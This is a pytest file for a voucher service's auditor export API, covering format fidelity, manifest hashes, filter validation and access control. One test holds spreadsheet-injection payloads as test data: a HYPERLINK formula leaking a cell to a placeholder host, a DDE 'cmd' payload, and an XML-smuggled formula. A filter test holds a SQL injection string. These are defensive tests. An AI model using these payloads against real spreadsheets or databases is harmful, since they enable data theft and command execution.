"""Exports (auditor toolkit): every dataset in every format (JSON Lines, CSV, .xlsx), read back
and compared with the database; the manifest describes exactly the bytes received; filters
select what they say and inapplicable or malformed ones are refused; only operators and
auditors may export. The spreadsheet formats hold flat cells only (line items and audit changes
are rows of their own, a computation is columns) and Beijing times; see test_spreadsheets.py."""

from __future__ import annotations

import hashlib
import uuid
from typing import Any

import httpx
import pytest
from sqlalchemy import func, select

from services.voucher.audit import service as audit
from services.voucher.tables import AuditEvent, ExportManifest, Redemption, Settlement, Voucher
from tests.exports import xlsx
from tests.exports.helpers import (
    FORMATS,
    MEDIA,
    A,
    assert_same_rows,
    database_rows,
    export,
    flat_redemption,
    flat_settlement,
    header_of,
    ledger_rows_statement,
    manifest_of,
    rows_of,
    time_columns,
    without_changes,
)
from tests.exports.history import History, build_history
from tests.support import assert_problem, auth

E = AuditEvent.__table__


@pytest.fixture
async def history(app, client: httpx.AsyncClient, clock) -> History:
    return await build_history(app, client, clock)


def expected_rows(dataset: str, fmt: str, rows: list[dict[str, Any]]) -> list[dict[str, Any]]:
    """The database rows as `fmt` has them: JSON Lines as they are; a spreadsheet with a
    redemption's computation in columns and an audit event's changes left to their own dataset."""
    if fmt == "jsonl":
        return rows
    if dataset == "redemptions":
        return [flat_redemption(r) for r in rows]
    if dataset == "audit-events":
        return [without_changes(r) for r in rows]
    if dataset == "settlements":
        return [flat_settlement(r) for r in rows]
    return rows


def expected_statement(dataset: str) -> Any:
    if dataset == "ledger-entries":
        return ledger_rows_statement()
    if dataset == "redemptions":
        return select(Redemption.__table__).order_by(Redemption.__table__.c.id)
    if dataset == "settlements":
        return select(Settlement.__table__).order_by(Settlement.__table__.c.id)
    return select(E).order_by(E.c.seq.asc().nulls_last(), E.c.id)


async def principal_of(client: httpx.AsyncClient, key: str) -> str:
    me = await client.get("/v1/me", headers=auth(key))
    assert me.status_code == 200, me.text
    return me.json()["principal_id"]  # type: ignore[no-any-return]


@pytest.mark.parametrize("dataset", ["ledger-entries", "redemptions", "settlements", "audit-events"])
async def test_every_dataset_in_every_format_matches_the_database(
    app, client: httpx.AsyncClient, history: History, dataset: str
) -> None:
    auditor = history.world.auditor
    for fmt in FORMATS:
        response = await export(client, auditor, dataset, fmt)
        assert response.status_code == 200, response.text
        assert response.headers["content-type"].startswith(MEDIA[fmt])
        export_id = response.headers["export-id"]
        assert f"{dataset}-{export_id}.{fmt}" in response.headers["content-disposition"]
        rows = rows_of(fmt, response.content)
        stmt = expected_statement(dataset)
        expected = await database_rows(app, stmt)
        assert expected, "the scripted history has rows in every dataset"
        assert_same_rows(rows, expected_rows(dataset, fmt, expected), fmt, time_columns(stmt))

        manifest = await manifest_of(client, auditor, response)
        assert manifest["id"] == export_id
        assert manifest["dataset"] == dataset and manifest["format"] == fmt and manifest["filters"] == {}
        assert manifest["sha256"] == hashlib.sha256(response.content).hexdigest()
        assert manifest["row_count"] == len(rows)
        assert manifest["is_complete"] is True and manifest["finished_at"] is not None
        assert manifest["requested_by"] == await principal_of(client, auditor)
        async with app.state.database.unit_of_work(write=False) as session:
            head = await audit.head(session)
        # The export sealed everything first, so its chain head is the whole chain.
        assert head.unsealed == 0
        assert (manifest["chain_seq"], manifest["chain_hash"]) == (head.seq, head.chain_hash)
        assert head.seq > 0


async def test_the_exports_agree_with_what_the_api_reported(client: httpx.AsyncClient, history: History) -> None:
    auditor = history.world.auditor
    entries = rows_of("jsonl", (await export(client, auditor, "ledger-entries")).content)
    journals: dict[tuple[str, str], int] = {}
    for row in entries:
        journals[(row["journal_id"], row["unit"])] = journals.get((row["journal_id"], row["unit"]), 0) + row["amount"]
    assert set(journals.values()) == {0}, "every journal in the export sums to zero"
    redemptions = {r["id"]: r for r in rows_of("csv", (await export(client, auditor, "redemptions", "csv")).content)}
    for reported in history.redemptions:
        row = redemptions[reported["id"]]
        assert int(row["captured_amount"]) == reported["captured_amount"] > 0
        assert int(row["refunded_amount"]) == reported["refunded_amount"]
        assert row["voucher_id"] == reported["voucher_id"]
    settlements = rows_of("jsonl", (await export(client, auditor, "settlements")).content)
    assert [(s["id"], s["total"]) for s in settlements] == [(history.settlement["id"], history.settlement["total"])]
    used = {r["account_id"]: r for r in entries if r["account_kind"] == "voucher_used"}
    assert sum(r["amount"] for r in entries if r["account_id"] in used) == sum(
        r["captured_amount"] - r["refunded_amount"] for r in history.redemptions)


async def test_jsonl_is_the_default_and_the_csv_starts_with_a_bom_and_a_header(
    client: httpx.AsyncClient, history: History
) -> None:
    default = await export(client, history.world.auditor, "settlements")
    assert default.headers["content-type"].startswith("application/x-ndjson")
    csv_ = await export(client, history.world.auditor, "settlements", "csv")
    first_line = csv_.content.split(b"\r\n", 1)[0]
    assert first_line.startswith(b"\xef\xbb\xbfid,provider_id,programme_id,unit,")


async def test_a_reference_that_looks_like_a_formula_is_inert_in_csv_and_xlsx_and_exact_in_jsonl(
    client: httpx.AsyncClient, history: History
) -> None:
    """Issue 19, finding 4: a provider's order reference reaches the export's cells. In CSV it
    gets an apostrophe; in .xlsx it is a text cell as it is, never a formula — including the
    one shape (`<r>…</r>`) XlsxWriter would copy into the sheet's XML unescaped."""
    world = history.world
    voucher = await world.issue(10_000_000)
    injection = "<r><t>a</t></r></is></c><c><f>HYPERLINK(\"http://x/\",\"y\")</f></c><c><is><r><t>b</t></r>"
    attacks = ['=HYPERLINK("http://x/?leak="&A1,"Click")', '+1+cmd|"/Ccalc"!A0', "@SUM(A1)", "-2+3", injection]
    for reference in attacks:
        redeemed = await world.hold(voucher, 100_000, order=reference, path="/v1/redemptions")
        assert redeemed.status_code == 201, redeemed.text
    found = {}
    for fmt in FORMATS:
        for dataset in ("redemptions", "redemption-line-items"):
            response = await export(client, world.auditor, dataset, fmt, voucher_id=voucher["id"])
            found[fmt, dataset] = sorted(r["order_reference"] for r in rows_of(fmt, response.content))
            if fmt == "xlsx":
                [sheet] = xlsx.read(response.content)
                assert not any(c.is_formula for row in sheet.rows for c in row)
                assert all("<f>" not in part for part in xlsx.sheet_xml(response.content))
        assert found[fmt, "redemptions"] == found[fmt, "redemption-line-items"]
    assert found["jsonl", "redemptions"] == found["xlsx", "redemptions"] == sorted(attacks)
    assert found["csv", "redemptions"] == sorted("'" + a if a[0] in "=+-@" else a for a in attacks)


# -- filters ---------------------------------------------------------------------------------------


async def _filtered(app, client, key, dataset: str, stmt_filter, **params: Any) -> list[dict[str, Any]]:
    """Export with `params` in every format; each equals the database rows `stmt_filter` keeps."""
    stmt = expected_statement(dataset)
    expected = [r for r in await database_rows(app, stmt) if stmt_filter(r)]
    for fmt in FORMATS:
        response = await export(client, key, dataset, fmt, **params)
        assert response.status_code == 200, response.text
        rows = rows_of(fmt, response.content)
        assert_same_rows(rows, expected_rows(dataset, fmt, expected), fmt, time_columns(stmt))
        manifest = await manifest_of(client, key, response)
        assert manifest["row_count"] == len(rows)
        assert manifest["sha256"] == hashlib.sha256(response.content).hexdigest()
    return expected


async def test_ledger_filters(app, client: httpx.AsyncClient, history: History) -> None:
    key, world = history.world.auditor, history.world
    programme, other = world.programme["id"], history.other_programme["id"]
    mine = await _filtered(app, client, key, "ledger-entries", lambda r: str(r["programme_id"]) == programme,
                           programme_id=programme)
    theirs = await _filtered(app, client, key, "ledger-entries", lambda r: str(r["programme_id"]) == other,
                             programme_id=other)
    assert mine and theirs and not {r["posting_id"] for r in mine} & {r["posting_id"] for r in theirs}
    voucher = history.vouchers[0]["id"]
    by_voucher = await _filtered(app, client, key, "ledger-entries", lambda r: str(r["voucher_id"]) == voucher,
                                 voucher_id=voucher)
    assert {r["account_kind"] for r in by_voucher} >= {"voucher_available", "voucher_held", "voucher_used"}
    by_provider = await _filtered(app, client, key, "ledger-entries",
                                  lambda r: str(r["provider_id"]) == world.provider["id"],
                                  provider_id=world.provider["id"])
    assert by_provider
    # An enterprise's postings are its vouchers' as well as its own accounts' (an independent
    # review found the vouchers' left out: voucher accounts name no enterprise of their own).
    by_enterprise = await _filtered(app, client, key, "ledger-entries",
                                    lambda r: str(r["enterprise_id"]) == world.enterprise["id"],
                                    enterprise_id=world.enterprise["id"])
    assert {r["account_kind"] for r in by_enterprise} >= {"voucher_available", "voucher_held", "voucher_used"}
    assert {r["posting_id"] for r in by_voucher} <= {r["posting_id"] for r in by_enterprise}
    account = by_voucher[0]["account_id"]
    by_account = await _filtered(app, client, key, "ledger-entries", lambda r: r["account_id"] == account,
                                 account_id=str(account))
    assert 0 < len(by_account) < len(by_voucher)


async def test_the_time_range_is_half_open(app, client: httpx.AsyncClient, history: History) -> None:
    since, until = "2026-02-22T02:00:00Z", "2026-02-24T02:00:00Z"
    from tests.exports.history import utc

    lo, hi = utc("2026-02-22T02:00:00+00:00"), utc("2026-02-24T02:00:00+00:00")
    kept = await _filtered(app, client, history.world.auditor, "ledger-entries",
                           lambda r: lo <= r["created_at"] < hi, since=since, until=until)
    # The hold (at `since` exactly) and its capture; not the one-step redemption at `until`.
    assert {r["created_at"].isoformat() for r in kept} == {"2026-02-22T02:00:00+00:00", "2026-02-22T02:10:00+00:00"}
    assert {r["kind"] for r in kept} == {"hold_placed", "hold_captured"}
    response = await export(client, history.world.auditor, "ledger-entries", since=since, until=until)
    manifest = await manifest_of(client, history.world.auditor, response)
    assert manifest["filters"] == {"since": since, "until": until}


async def test_filters_of_the_other_datasets(app, client: httpx.AsyncClient, history: History) -> None:
    key, world = history.world.auditor, history.world
    voucher = history.vouchers[1]["id"]
    one = await _filtered(app, client, key, "redemptions", lambda r: str(r["voucher_id"]) == voucher,
                          voucher_id=voucher)
    assert [str(r["id"]) for r in one] == [history.redemptions[1]["id"]]
    assert await _filtered(app, client, key, "redemptions", lambda r: False,
                           programme_id=history.other_programme["id"]) == []
    assert len(await _filtered(app, client, key, "settlements",
                               lambda r: str(r["provider_id"]) == world.provider["id"],
                               provider_id=world.provider["id"])) == 1
    events = await _filtered(app, client, key, "audit-events", lambda r: str(r["voucher_id"]) == voucher,
                             voucher_id=voucher)
    assert {e["action"] for e in events} >= {"ledger.posted"}
    # An enterprise's events are those that name it and those that name only one of its vouchers:
    # the journals on a voucher's accounts are the enterprise's, in its ledger entries too (an
    # independent review found its audit trail without one event for them).
    enterprise = world.enterprise["id"]
    theirs = {str(v["id"]) for v in await database_rows(app, select(Voucher.__table__))
              if str(v["enterprise_id"]) == enterprise}
    by_enterprise = await _filtered(app, client, key, "audit-events",
                                    lambda r: str(r["enterprise_id"]) == enterprise
                                    or (r["enterprise_id"] is None and str(r["voucher_id"]) in theirs),
                                    enterprise_id=enterprise)
    journals = {str(r["journal_id"]) for r in await _filtered(
        app, client, key, "ledger-entries", lambda r: str(r["enterprise_id"]) == enterprise, enterprise_id=enterprise)}
    assert journals and journals <= {str(e["journal_id"]) for e in by_enterprise if e["action"] == "ledger.posted"}
    listed = (await client.get("/v1/audit/events", params={"enterprise_id": enterprise, "limit": 200},
                               headers=auth(key))).json()["items"]
    assert {e["id"] for e in listed} == {str(e["id"]) for e in by_enterprise}


@pytest.mark.parametrize(("dataset", "params", "field"), [
    ("redemptions", {"account_id": "0190d5d2-1c4e-7a10-8a55-3f2b9c1d0e31"}, "account_id"),
    ("settlements", {"voucher_id": "0190d5d2-1c4e-7a10-8a55-3f2b9c1d0e31"}, "voucher_id"),
    ("settlements", {"enterprise_id": "0190d5d2-1c4e-7a10-8a55-3f2b9c1d0e31"}, "enterprise_id"),
    ("audit-events", {"account_id": "0190d5d2-1c4e-7a10-8a55-3f2b9c1d0e31"}, "account_id"),
    ("redemption-line-items", {"account_id": "0190d5d2-1c4e-7a10-8a55-3f2b9c1d0e31"}, "account_id"),
    ("audit-event-changes", {"account_id": "0190d5d2-1c4e-7a10-8a55-3f2b9c1d0e31"}, "account_id"),
    ("ledger-entries", {"since": "2026-03-01T00:00:00Z", "until": "2026-03-01T00:00:00Z"}, "until"),
    ("ledger-entries", {"since": "2026-03-02T00:00:00Z", "until": "2026-03-01T00:00:00Z"}, "until"),
])
async def test_inapplicable_filters_are_refused(
    app, client: httpx.AsyncClient, auditor_key: str, dataset: str, params: dict, field: str
) -> None:
    body = assert_problem(await export(client, auditor_key, dataset, **params), 422, "validation_failed")
    assert [e["pointer"] for e in body["errors"]] == [f"/{field}"]
    assert await _manifests(app) == 0, "a refused export leaves no manifest"


@pytest.mark.parametrize("params", [
    {"since": "2026-03-01T00:00:00"},  # no offset: which instant?
    {"until": "yesterday"},
    {"programme_id": "not-a-uuid"},
    {"format": "xml"},
    {"voucher_id": "1' OR '1'='1"},
])
async def test_malformed_filters_are_422_problems(app, client: httpx.AsyncClient, auditor_key: str, params) -> None:
    assert_problem(await export(client, auditor_key, "ledger-entries", **params), 422, "validation_failed")
    assert await _manifests(app) == 0


async def test_an_unknown_dataset_is_refused(client: httpx.AsyncClient, auditor_key: str) -> None:
    assert_problem(await export(client, auditor_key, "passwords"), 422, "validation_failed")


async def _manifests(app) -> int:
    async with app.state.database.unit_of_work(write=False) as session:
        return (await session.execute(select(func.count()).select_from(ExportManifest))).scalar_one()


# -- who may export ----------------------------------------------------------------------------


async def test_only_operators_and_auditors_export(app, client: httpx.AsyncClient, history: History) -> None:
    world = history.world
    allowed = await export(client, world.operator, "redemptions", "csv")
    assert allowed.status_code == 200
    manifest_path = f"/v1/exports/manifests/{allowed.headers['export-id']}"
    for key in (world.enterprise_key, world.provider_key):
        for dataset in ("ledger-entries", "redemptions", "redemption-line-items", "settlements", "audit-events",
                        "audit-event-changes"):
            for fmt in FORMATS:
                assert_problem(await export(client, key, dataset, fmt), 403, "insufficient_scope")
        assert_problem(await client.get(manifest_path, headers=auth(key)), 403, "insufficient_scope")
    assert_problem(await client.get("/v1/exports/redemptions"), 401, "unauthenticated")
    assert_problem(await client.get(manifest_path), 401, "unauthenticated")
    assert await _manifests(app) == 1


async def test_head_checks_as_get_does_and_runs_no_export(app, client: httpx.AsyncClient, history: History) -> None:
    """A monitor's HEAD had read the whole dataset and recorded a finished manifest for a body
    nobody received (an independent review, December 2026): it is refused as the GET would be,
    and otherwise answers the GET's status and type with no export behind it."""
    world = history.world
    before = await _manifests(app)
    for fmt, media in (("csv", "text/csv"), ("jsonl", "application/x-ndjson")):
        head = await client.head("/v1/exports/redemptions", params={"format": fmt}, headers=auth(world.auditor))
        assert head.status_code == 200 and head.content == b""
        assert head.headers["content-type"].startswith(media) and "export-id" not in head.headers
    refused = await client.head("/v1/exports/settlements", params={"account_id": str(uuid.uuid4())},
                                headers=auth(world.auditor))
    assert refused.status_code == 422  # the filter settlements do not take, as the GET says
    assert (await client.head("/v1/exports/redemptions", headers=auth(world.provider_key))).status_code == 403
    assert (await client.head("/v1/exports/redemptions")).status_code == 401
    assert await _manifests(app) == before
    assert (await export(client, world.auditor, "redemptions", "csv")).status_code == 200
    assert await _manifests(app) == before + 1  # the GET is an export


async def test_an_unknown_manifest_is_404(client: httpx.AsyncClient, auditor_key: str) -> None:
    missing = await client.get("/v1/exports/manifests/0190d5d2-1c4e-7a10-8a55-3f2b9c1d0e99",
                               headers=auth(auditor_key))
    assert_problem(missing, 404, "not_found")
    assert_problem(await client.get("/v1/exports/manifests/nope", headers=auth(auditor_key)), 422, "validation_failed")


async def test_an_empty_export_has_a_manifest_too(client: httpx.AsyncClient, auditor_key: str) -> None:
    for fmt in FORMATS:
        response = await export(client, auditor_key, "settlements", fmt)
        assert response.status_code == 200
        if fmt == "jsonl":
            assert response.content == b""
        else:  # a header and no row
            assert header_of(fmt, response.content)[:2] == ["id", "provider_id"]
        assert rows_of(fmt, response.content) == []
        manifest = await manifest_of(client, auditor_key, response)
        assert manifest["row_count"] == 0
        assert manifest["sha256"] == hashlib.sha256(response.content).hexdigest()


async def test_account_filter_matches_ledger_accounts(app, client: httpx.AsyncClient, history: History) -> None:
    """An account id that is no account selects nothing (not everything)."""
    rows = await database_rows(app, select(A.c.id))
    assert rows
    response = await export(client, history.world.auditor, "ledger-entries",
                            account_id="0190d5d2-1c4e-7a10-8a55-3f2b9c1d0e99")
    assert response.status_code == 200 and response.content == b""
